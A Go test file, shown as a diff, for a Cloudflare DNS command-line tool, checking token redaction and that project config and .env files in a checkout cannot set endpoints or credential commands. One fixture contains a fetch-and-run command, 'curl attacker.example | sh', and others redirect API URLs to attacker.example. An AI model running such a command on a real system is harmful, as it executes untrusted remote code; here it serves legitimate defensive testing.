@@ -0,0 +1,137 @@
+package utils
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/mrinjamul/mrinjamulcf-cli/models"
+)
+
+func TestConfigValueRedactsTokens(t *testing.T) {
+	config := models.Config{
+		CFToken: "toplevelsecretWXYZ",
+		Zones: []models.Zone{
+			{Name: "one", DomainName: "one.in", CFToken: "zonesecrettokenABCD"},
+			{Name: "two", DomainName: "two.in"},
+		},
+	}
+	for _, key := range ConfigKeys() {
+		value := ConfigValue(config, key)
+		for _, secret := range []string{"toplevelsecret", "zonesecrettoken"} {
+			if strings.Contains(value, secret) {
+				t.Errorf("ConfigValue(%q) = %s, leaks the token", key, value)
+			}
+		}
+	}
+	zones := ConfigValue(config, "zones")
+	if !strings.Contains(zones, `"cf_token":"********ABCD"`) || !strings.Contains(zones, `"domain_name":"two.in"`) {
+		t.Errorf("ConfigValue(zones) = %s", zones)
+	}
+	if config.Zones[0].CFToken != "zonesecrettokenABCD" {
+		t.Errorf("ConfigValue changed the config: %q", config.Zones[0].CFToken)
+	}
+}
+
+// inProject runs LoadConfig in a new checkout holding the files, with an empty user config
+func inProject(t *testing.T, files map[string]string) (LoadedConfig, error) {
+	t.Helper()
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", home)
+	for _, env := range ConfigEnv {
+		// restored after the test
+		t.Setenv(env, "")
+		os.Unsetenv(env)
+	}
+	project := filepath.Join(t.TempDir(), "repo")
+	if err := os.MkdirAll(filepath.Join(project, "sub"), 0700); err != nil {
+		t.Fatal(err)
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(project, name), []byte(content), 0600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	// the project file is found from a sub directory too
+	if err := os.Chdir(filepath.Join(project, "sub")); err != nil {
+		t.Fatal(err)
+	}
+	defer os.Chdir(wd)
+	return LoadConfig("")
+}
+
+func TestProjectConfigCannotSetCredentials(t *testing.T) {
+	for _, key := range []string{"api_url", "github_api", "token_command", "cf_token_file", "secrets_file", "cf_token", "zones"} {
+		value := `"https://attacker.example"`
+		if key == "zones" {
+			value = `[{"name":"x","token_command":"curl attacker.example | sh"}]`
+		}
+		_, err := inProject(t, map[string]string{ProjectConfigFile: `{"domain_name":"example.com",` + fmt.Sprintf("%q", key) + `:` + value + `}`})
+		if err == nil || !strings.Contains(err.Error(), ProjectConfigFile) || !strings.Contains(err.Error(), key) {
+			t.Errorf("project file setting %s: err = %v, want an error naming the file and the key", key, err)
+		}
+	}
+}
+
+func TestDotEnvCannotSetCredentials(t *testing.T) {
+	for _, env := range []string{"CF_API_URL", "GITHUB_API_URL", "CF_TOK_FILE", "CF_TOK"} {
+		_, err := inProject(t, map[string]string{"sub/" + DotEnvFile: env + "=https://attacker.example\n"})
+		if err == nil || !strings.Contains(err.Error(), DotEnvFile) || !strings.Contains(err.Error(), env) {
+			t.Errorf(".env setting %s: err = %v, want an error naming the file and the variable", env, err)
+		}
+	}
+}
+
+func TestProjectConfig(t *testing.T) {
+	loaded, err := inProject(t, map[string]string{
+		ProjectConfigFile:   `{"domain_name":"example.com","record_file":"records.json","sort_by":"type","type_defaults":{"MX":{"ttl":3600}}}`,
+		"sub/" + DotEnvFile: "RESTRICTED_FILE=restricted.json\nCF_ZID=zone\n",
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	config := loaded.Config
+	if config.DomainName != "example.com" || config.SortBy != "type" || config.TypeDefaults["MX"].TTL != 3600 || config.ZoneID != "zone" {
+		t.Errorf("LoadConfig() = %+v", config)
+	}
+	if filepath.Base(config.RecordFile) != "records.json" || !filepath.IsAbs(config.RecordFile) {
+		t.Errorf("record_file = %q, want it relative to the project file", config.RecordFile)
+	}
+	if config.APIURL != CloudflareAPI || config.GitHubAPI != GitHubAPI || config.TokenCommand != "" {
+		t.Errorf("LoadConfig() changed the endpoints or the token command: %+v", config)
+	}
+	if loaded.Sources["domain_name"] != SourceProject || loaded.Sources["restricted_file"] != SourceDotEnv {
+		t.Errorf("Sources = %v", loaded.Sources)
+	}
+}
+
+func TestValidateConfigTokenCommandSource(t *testing.T) {
+	config := DefaultConfig()
+	config.DomainName = "example.com"
+	config.TokenCommand = "pass show cf"
+	for source, allowed := range map[string]bool{
+		SourceSystem:  true,
+		SourceUser:    true,
+		SourceEnv:     true,
+		SourceFlag:    true,
+		SourceProject: false,
+		SourceDotEnv:  false,
+	} {
+		var found bool
+		for _, issue := range ValidateConfig(config, ConfigSources{"token_command": source}) {
+			if issue.Name == "token_command" {
+				found = true
+			}
+		}
+		if found == allowed {
+			t.Errorf("token_command from %s: reported = %t, want %t", source, found, !allowed)
+		}
+	}
+}